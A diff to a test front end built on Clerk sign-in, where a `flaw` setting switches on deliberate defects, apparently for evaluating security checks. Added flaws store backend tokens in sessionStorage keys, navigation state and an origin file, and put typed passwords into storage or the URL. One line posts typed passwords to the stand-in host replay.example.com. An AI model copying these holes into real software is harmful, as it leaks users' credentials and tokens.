@@ -1,11 +1,21 @@
 // A small front end with real clerk-js. `flaw` names what is wrong with it, `style` how it signs in and sends its token:
-// on the account portal with a bearer token, or by a form of its own with Clerk's session cookie.
+// on the account portal with a bearer token, or by a form of its own with Clerk's session cookie; `one`: by such a form, all in one document.
 const { flaw, api, style } = window.SETTINGS
 const has = (name) => flaw.split(' ').includes(name)
 const protectedPages = ['/dashboard', '/profile']
 const app = document.querySelector('#app')
-const path = location.pathname
-const own = style === 'own'
+let path = location.pathname
+const own = style === 'own' || style === 'one'
+const one = style === 'one'
+const answers = new Map()
+
+// Another page: in one document, or by loading it.
+function go(to) {
+  if (!one) return location.assign(to)
+  history.pushState(null, '', to)
+  path = location.pathname
+  start()
+}
 
 function show(html) {
   app.innerHTML = html
@@ -68,6 +78,9 @@ async function elsewhere() {
   if (has('cached')) await (await caches.open('answers')).put('/token.json', new Response(JSON.stringify({ value: text }), { headers: { 'content-type': 'application/json' } }))
   if (has('named')) window.name = btoa(JSON.stringify({ user_id: window.Clerk.user.id, at: 2 }))
   if (has('state')) history.replaceState({ value: text }, '')
+  if (has('keyed')) sessionStorage.setItem(`GET /me ${text}`, '1')
+  if (has('filed')) await file(JSON.stringify({ value: text }))
+  if (has('navigated')) window.navigation.updateCurrentEntry({ state: { value: text } })
   if (has('cookie')) document.cookie = `backend=${text}; path=/`
   if (has('address')) history.replaceState(null, '', `${path}#id=${text}`)
   if (has('printed')) app.dataset.state = btoa(JSON.stringify({ user_id: window.Clerk.user.id, at: 1 }))
@@ -87,6 +100,14 @@ function remember(value) {
   })
 }
 
+// A file of the origin's own.
+async function file(value) {
+  const folder = await (await navigator.storage.getDirectory()).getDirectoryHandle('queue', { create: true })
+  const writing = await (await folder.getFileHandle('next.json', { create: true })).createWritable()
+  await writing.write(value)
+  await writing.close()
+}
+
 async function fill() {
   if (has('flash')) {
     const before = localStorage.getItem('name')
@@ -96,8 +117,10 @@ async function fill() {
     }
     localStorage.setItem('name', window.Clerk.user.fullName)
   }
-  const me = await ask('/me')
+  const me = answers.get('me') ?? (await ask('/me'))
   if (me === null) return leave()
+  if (has('answers') || has('answers-first')) answers.set('me', me)
+  if (has('offline') || has('offline-first')) localStorage.setItem('last', window.Clerk.user.fullName)
   show(`<section id="content"><h1>${path.slice(1)}</h1><p id="me">${me.sub}</p><p id="name">${window.Clerk.user.fullName}</p>
     <p id="tenant">${me.organization ?? ''}</p><button id="again">Again</button><button id="out">Sign out</button>
     ${window.Clerk.user.organizationMemberships.map((m) => `<button data-org="${m.organization.id}">${m.organization.name}</button>`).join('')}
@@ -120,6 +143,9 @@ async function fill() {
     await (await caches.open('pages')).put('/me.json', new Response(JSON.stringify({ id: window.Clerk.user.id }), { headers: { 'content-type': 'application/json' } }))
     history.replaceState({ scroll: 40 }, '')
     window.name = 'main'
+    await file('{"theme": "dark"}')
+    sessionStorage.setItem(`GET /me ${window.Clerk.user.id}`, '1')
+    window.navigation.updateCurrentEntry({ state: { scroll: 40 } })
   }
 }
 
@@ -131,12 +157,14 @@ async function choose(organization) {
 async function signOut() {
   if (has('stays')) localStorage.setItem('in', '1')
   if (has('local-sign-out')) return location.assign('/')
+  if (has('empties')) { answers.clear(); localStorage.removeItem('last') }
+  if (one) { await window.Clerk.signOut(() => {}); return go('/sign-in') }
   await window.Clerk.signOut({ redirectUrl: '/' })
 }
 
 function leave() {
   if (has('loop')) return location.assign(path === '/dashboard' ? '/profile' : '/dashboard')
-  if (own) return location.assign(`/sign-in?to=${encodeURIComponent(has('not-back') ? '/' : path)}`)
+  if (own) return go(`/sign-in?to=${encodeURIComponent(has('not-back') ? '/' : path)}`)
   window.Clerk.redirectToSignIn({ redirectUrl: has('not-back') ? location.origin : location.href })
 }
 
@@ -149,12 +177,16 @@ function form() {
     const field = document.querySelector('form input')
     if (started === null) {
       started = await window.Clerk.client.signIn.create({ identifier: field.value })
+      if (has('address-kept')) localStorage.setItem('last-address', field.value)
       document.querySelector('form').innerHTML = '<input type="password"><button type="submit">Sign in</button>'
       return
     }
     const done = await started.attemptFirstFactor({ strategy: 'password', password: field.value })
+    if (has('password-kept')) sessionStorage.setItem('form', btoa(JSON.stringify({ at: 1, word: field.value })))
+    if (has('password-sent')) await fetch('https://replay.example.com/typed', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ word: field.value }) }).catch(() => {})
+    if (has('password-address')) history.replaceState(null, '', `?word=${encodeURIComponent(field.value)}`)
     await window.Clerk.setActive({ session: done.createdSessionId })
-    location.assign(to)
+    go(to)
   }
 }
 
@@ -186,6 +218,8 @@ async function start() {
   }
   if (path === '/') show('<h1>Welcome</h1>')
   if (localStorage.getItem('broken')) return show('<p>Something went wrong</p>')
+  const last = protectedPages.includes(path) && localStorage.getItem('last')
+  if (last && has('offline-first')) show(`<p>${last}</p>`)
   if (has('open') && path === '/profile') return show('<section id="content"><h1>profile</h1></section>')
   if (has('gives-up')) {
     const clerk = new URL(document.querySelector('#clerk').src).origin
@@ -195,12 +229,13 @@ async function start() {
     await loaded()
   } catch {
     if (has('fails-open') && protectedPages.includes(path)) return show('<section id="content"><h1>offline</h1></section>')
+    if (last) return show(`<section id="content"><h1>${last}</h1></section>`)
     if (has('blank')) return document.body.replaceChildren()
     if (path !== '/') show('<p>Signing in is not possible at the moment. <button onclick="location.reload()">Try again</button></p>')
     return
   }
   if (path === '/sign-up') return signUpForm()
-  if (path === '/sign-in') return window.Clerk.user ? location.assign('/dashboard') : form()
+  if (path === '/sign-in') return window.Clerk.user ? go('/dashboard') : form()
   if (!protectedPages.includes(path)) return
   if (!window.Clerk.user) return leave()
   let in_ = true
